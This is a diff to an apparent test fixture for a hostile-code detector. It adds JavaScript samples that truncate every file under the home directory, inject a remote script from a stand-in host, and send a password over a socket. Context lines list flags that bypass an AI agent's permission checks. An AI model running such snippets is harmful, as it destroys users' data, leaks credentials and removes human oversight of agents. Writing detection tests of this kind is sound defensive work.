@@ -80,6 +80,19 @@ FIRING = {
         f"function sweep(d) {{ {SWEEP} }} sweep(path.join(os.homedir(), 'Documents'))",
         BELOW_HOME,
     ),
+    "folders to do": (
+        "const t = [os.homedir()]; while (t.length) { const d = t.pop();\n"
+        "for (const e of fs.readdirSync(d)) { if (dir(e)) t.push(e); else fs.truncateSync(e) } }",
+        BELOW_HOME,
+    ),
+    "code for a page that makes a script": (
+        "js = 's=d.createElement(\"script\");s.src=\"https://a.invalid/x.js\"'",
+        INSERTED,
+    ),
+    "a socket beside a password": (
+        "const net = require('net'); net.connect(25, 'a.invalid').write(o.password)",
+        TOLD,
+    ),
     "an option of an assistant": ("const A = ['gemini', '--yolo', '-p']", f"{UNASKED} (--yolo)"),
     "all permissions": ("const O = { permissionMode: 'bypassPermissions' }", f"{UNASKED} (bypassPermissions)"),
     "an order beside markup": (
